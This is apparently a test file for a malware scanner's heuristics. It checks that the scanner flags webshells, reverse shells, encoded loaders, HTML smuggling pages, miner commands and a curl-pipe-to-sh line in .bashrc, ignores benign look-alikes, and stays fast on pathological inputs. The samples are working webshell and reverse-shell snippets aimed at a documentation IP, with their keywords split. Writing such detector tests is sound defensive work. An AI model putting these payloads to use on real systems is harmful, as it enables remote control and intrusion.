import { describe, expect, it } from 'vitest'
import { suspicionsOf } from './heuristics.ts'
import { base64Run } from './suspicion.ts'
import { ask, bigBlob, blob, execute, j, php, sh } from './testing/ask.ts'

const smuggler = (data: string, more = ''): string =>
  `<html><body>${more}<script>var d=atob("${data}");var b=new Blob([d]);var u=URL.${j('create', 'ObjectURL')}(b);` +
  'var a=document.createElement("a");a.href=u;a.download="x.zip";a.click()</script></body></html>'

const positive: readonly (readonly [string, string, string])[] = [
  ['a page that evaluates a request', 'Script.Webshell', `${php}@${j('ev', 'al')}($_POST["x"]); ?>`],
  ['a page that calls a request', 'Script.Webshell', `${php}$_GET['a']($_${j('PO', 'ST')}['b']);`],
  [
    'a JSP that runs a parameter',
    'Script.Webshell',
    `<% Runtime.${j('get', 'Runtime')}().${execute}(request.getParameter("c")); %>`,
  ],
  ['an ASP page that evaluates a request', 'Script.Webshell', `<%${j('ev', 'al')} request("x")%>`],
  [
    'bash on a socket',
    'Script.ReverseShell',
    `#!/bin/bash\n${j('ba', 'sh')} -i >& ${j('/dev', '/tcp/192.0.2.1/4444')} 0>&1\n`,
  ],
  ['netcat with a shell', 'Script.ReverseShell', `#!/bin/sh\n${j('n', 'c')} 192.0.2.1 4444 ${j('-', 'e')} /bin/sh\n`],
  [
    'Python on a socket',
    'Script.ReverseShell',
    `import socket,os,pty\ns=socket.socket()\ns.connect(("192.0.2.1",1))\nos.${j('du', 'p2')}(s.fileno(),0)\n${j('pty', '.spawn')}("sh")`,
  ],
  [
    'PHP on a socket',
    'Script.ReverseShell',
    `${php}$s=${j('fsock', 'open')}("192.0.2.1",1);exec("/bin/${j('s', 'h')} -i <&3 >&3");`,
  ],
  ['PHP with hidden code', 'Script.HiddenCode', `${php}${j('ev', 'al')}(gzinflate(base64_decode("${blob}")));`],
  ['JavaScript with hidden code', 'Script.HiddenCode', `${j('ev', 'al')}(atob("${blob}"))`],
  ['characters made to code', 'Script.HiddenCode', `${j('ev', 'al')}(String.fromCharCode(${'104,'.repeat(80)}10))`],
  ['PowerShell with an encoded command', 'Script.HiddenCode', `${j('power', 'shell')} -nop -enc ${blob}`],
  ['a shell that runs decoded text', 'Script.HiddenCode', `echo ${blob.slice(0, 400)} | ${j('base', '64')} -d | sh`],
  ['Python with hidden code', 'Script.HiddenCode', `import base64\n${j('ex', 'ec')}(base64.b64decode("${blob}"))`],
  ['a page that carries a ZIP', 'Html.Smuggling', smuggler(j('UE', 'sDB') + bigBlob)],
  ['a page that carries something unknown', 'Html.Smuggling', smuggler(bigBlob)],
  [
    'a miner that is started',
    'Miner.Script',
    `#!/bin/sh\n./x -o ${j('stratum', '+tcp://')}pool.example.invalid:3333 -u me`,
  ],
]

describe('is suspected:', () => {
  it.each(positive)('%s', (_, threat, content) => expect(ask(content)).toEqual([threat]))

  it('the same in UTF-16, as PowerShell writes it', () => {
    const text = `${j('power', 'shell')} -enc ${blob}`
    expect(ask(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]))).toEqual(['Script.HiddenCode'])
  })

  it('a login file that downloads and runs', () => {
    const line = `alias l=ls\n${j('cu', 'rl')} -s http://example.invalid/a | sh\n`
    expect(ask(line, { name: '.bashrc' })).toEqual(['Persistence.DownloadAtStart'])
    expect(ask(line, { name: 'install.md' })).toEqual([])
    expect(ask(`# ${line.slice(11)}`, { name: '.bashrc' })).toEqual([])
  })

  it('a server page behind the beginning of a picture', () => {
    const page = `${php}@${j('ev', 'al')}($_POST["x"]); ?>`
    expect(ask(`GIF89a${'\0'.repeat(40)}${page}`)).toEqual(['Script.Webshell'])
    expect(ask(`GIF89a${'\0'.repeat(200_000)}${page}`)).toEqual(['Script.Webshell'])
    expect(ask(`GIF89a${'\0'.repeat(40)}`)).toEqual([])
  })

  it('a source that is padded, unlike a long text', () => {
    const shell = `import socket,os,pty\ns=socket.socket()\ns.connect(("192.0.2.1",1))\nos.${j('du', 'p2')}(s.fileno(),0)\n${j('pty', '.spawn')}("sh")\n`
    const padded = shell + '# nothing\n'.repeat(3000)
    expect(ask(padded, { name: 'setup.py' })).toEqual(['Script.ReverseShell'])
    expect(ask(padded, { name: 'notes.txt' })).toEqual([])
  })
})

const negative: readonly (readonly [string, string])[] = [
  ['PHP that reads a request', `${php}echo htmlspecialchars($_POST["name"]); exec("ls");`],
  ['a script that tests a port', '#!/bin/bash\n(echo > /dev/tcp/localhost/80) 2>/dev/null && echo up\n'],
  ['a service that detaches', 'import os, socket\ns.connect(("h", 1))\nos.dup2(null.fileno(), 0)\n'],
  ['code of a bundler', `${j('ev', 'al')}("__webpack_require__.r(x);\\n//# sourceURL=webpack:///./a.js?");`],
  ['a minified library', `!function(e,t){return String.fromCharCode(e>>8,t)}(1,2);var a=atob(x);`.repeat(200)],
  ['a source map in a line', `//# sourceMappingURL=data:application/json;base64,${bigBlob}`],
  ['a page with a picture and a download', `<html><script>${'var x=1;\n'.repeat(6000)}</script>${smuggler(bigBlob)}`],
  [
    'a guide that quotes a shell',
    `# Shells\n\n\`\`\`\n${j('ba', 'sh')} -i >& ${j('/dev', '/tcp/192.0.2.1/4444')} 0>&1\n\`\`\`\n`,
  ],
  ['PowerShell with a command', `${j('power', 'shell')}.exe -NoProfile -Command Get-Date`],
]

describe('is not suspected:', () => {
  it.each(negative)('%s', (_, content) => expect(ask(content)).toEqual([]))
})

it('a level asks nothing of the levels after it', () => {
  const bytes = Buffer.from(`${j('ev', 'al')}(atob("${blob}"))`)
  const subject = { bytes, sha256: Buffer.alloc(32), format: 'text' as const, name: 'a', path: '/a', depth: 0 }
  expect(suspicionsOf(subject, 'light')).toEqual([])
  expect(suspicionsOf(subject, 'medium')).toHaveLength(1)
})

it('a run of base64 is found wherever it begins', () => {
  for (const before of [0, 1, 49, 50, 51, 333]) {
    expect(base64Run(`${' '.repeat(before)}${'A'.repeat(100)} `, 100)).toEqual({ start: before, end: before + 100 })
    expect(base64Run(`${' '.repeat(before)}${'A'.repeat(99)} ${'A'.repeat(99)}`, 100)).toBeNull()
  }
})

it.each([
  `echo ${'a'.repeat(79_000)}`,
  `<?php ${'eval('.repeat(15_000)}`,
  `${'exec 5<>/dev/tcp/'.repeat(4000)}`,
  `powershell ${'-e '.repeat(20_000)} frombase64string iex`,
  `<html>createobjecturl.click()"download"blob(uint8array${`${'A'.repeat(3999)} `.repeat(19)}`,
  `<html>createobjecturl.click()"download"blob(uint8array${'data:image/png;base64,'.concat('A'.repeat(4000), ' ').repeat(19)}`,
  `<html>createobjecturl.click()"download"blob(uint8array[${'1,'.repeat(30_000)}`,
  `<html>createobjecturl.click()"download"blob(uint8array${`'${'A'.repeat(50)}'`.repeat(1500)}`,
  `#!/bin/sh\n${'nc '.repeat(26_000)}/bin/ -e sh`,
  `${'mkfifo '.repeat(11_000)}nc sh -i`,
  `eval atob unescape fromcharcode chr base64 ${' '.repeat(70_000)}`,
  `<?php ${'$a=$_get[1];'.repeat(6500)}`,
  `<?php ${'$a=$_get[1];system('.repeat(4000)}`,
  `<?php ${"$a='a'.'b';".repeat(7000)}`,
  `<% ${'a=request.getparameter(b);exec('.repeat(2500)}`,
  `<% ${`${j('define', 'class')}( cipher `.repeat(3500)}`,
  `<% wscript.shell ${'.exec(request '.repeat(5000)}`,
  `<% processstartinfo "cmd" ${'processstartinfo '.repeat(4500)}`,
  `${'a=net.dial('.repeat(7000)} exec.command("${sh}") `,
  `child_process net .pipe( ${'.connect(a '.repeat(7000)}`,
  `tcpsocket ${'a=b.gets '.repeat(8500)}`,
  `new socket( socket( getoutputstream getinputstream ${'processbuilder('.repeat(5000)}`,
  `[::-1] lambda exec( ${'lambda a: '.repeat(8000)}${'A'.repeat(300)}`,
  `base64_decode eval( ${'$a=base64_decode('.repeat(4500)}${'A'.repeat(300)}`,
  `b64decode exec( ${'a=b64decode('.repeat(6500)}${'A'.repeat(300)}`,
  `atob( ${'eval(atob('.repeat(7500)}${'A'.repeat(300)}`,
  `exec( fromhex ${'exec(bytes('.repeat(7000)}`,
  `fromcharcode ${'eval(string.fromcharcode('.repeat(3000)}${'1,'.repeat(1000)}`,
  `(![]+[]) ${`${'[]()!+'.repeat(90)} `.repeat(140)}`,
  `"donate-level": ${'"pools" "donate-level":'.repeat(3400)}`,
  `xmrig -o ${'xmrig a '.repeat(9000)}`,
  `sub autoopen() ${'createobject( wscript.shell '.repeat(2800)}`,
  `sub autoopen() ${"  'x\n".repeat(15_000)}`,
  `sub autoopen() ${' '.repeat(79_000)}`,
  `${' '.repeat(79_000)}.pdf.exe`,
])('text made to be slow is answered in a moment: %#', (text) => {
  const start = performance.now()
  ask(text, { name: 'VBA/x', depth: 1 })
  ask(text, { name: `${text.slice(0, 200)}.js` })
  expect(performance.now() - start).toBeLessThan(1000)
})
